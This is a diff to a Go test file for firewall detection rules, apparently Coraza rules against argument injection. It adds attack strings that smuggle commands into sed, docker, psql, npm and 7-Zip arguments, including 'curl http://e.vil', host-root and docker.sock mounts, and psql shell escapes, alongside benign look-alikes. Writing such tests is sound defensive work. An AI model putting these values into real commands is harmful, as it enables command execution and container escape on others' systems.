@@ -56,6 +56,12 @@ var argumentAttacks = []string{
 	"--index-url=http://e.vil/", "-i http://e.vil/", "-e id", "-e 'sh -c id'", "-P/srv/uploads/x.sh", "--rsync-path id", "--browser-subprocess-path=/srv/x",
 	"-e use_askpass=/srv/x", "--execu=output_document=/app/x", "--config ui.editor=id", "--config=extensions.x=/srv/x.py", "--config=hooks.pre-pull=id",
 	"--extra-index-url=https://e.vil/simple", "--find-links=http://e.vil/", "-ihttp://e.vil/", "--index=http://e.vil/",
+	// a tenth fresh-eyes attack's (attack 14) still open then: sed,
+	// docker, psql, npm and 7-Zip (210190)
+	"1e id", "e id", "$e id", "1eid", "e\tsh -c id", "/x/e sh -c id", "1,3e curl http://e.vil", "s/x/id/e", "s/a/b/ge",
+	"-v /:/host", "-v /var/run/docker.sock:/var/run/docker.sock", "--volume=/:/host", "--mount type=bind,source=/,target=/h", "--privileged",
+	"\\! id", "-c \\! id", "-c '\\! id'", "\\o |id", "--command=\\! id", "x' \\g |sh", "x' \\! curl e.vil",
+	"--script-shell=/srv/uploads/x.sh", "--prefix=./x", "--prefix /", "-so", "-so x.7z",
 }
 
 var execBenign = []string{
@@ -84,6 +90,9 @@ var execBenign = []string{
 	"-e sharp minor", "--index", "--index-url", "-i ./requirements.txt", "--pager", "--pagination=on", "--gpu", "-email=ann@example.com",
 	"--config=ui.username=ann", "-e http_proxy", "-Eid Mubarak", "-Pidgin English", "-e catalogue", "--execute", "-expected delays",
 	"-i https is required", "-f file.txt", "-Pi day", "--rsync", "--config=ui.verbose=true", "-e post", "-ideas", "-finance=1",
+	// near attack 14's 210190
+	"e mail", "1e6", "2e10 ids", "See e.g. id cards", "s/he said", "-v", "-verbose", "-v 1.2.3", "--prefix", "--prefix-free", "-sort",
+	"-solo", "--privileges are listed", "\\n", "C:\\Users\\ann", "it's \\! great", "-volume up", "--mount point", "Home: e sh", "eid mubarak", "ecat", "esh",
 }
 
 // execMatches runs v through rules 210180-210186 in Coraza with the
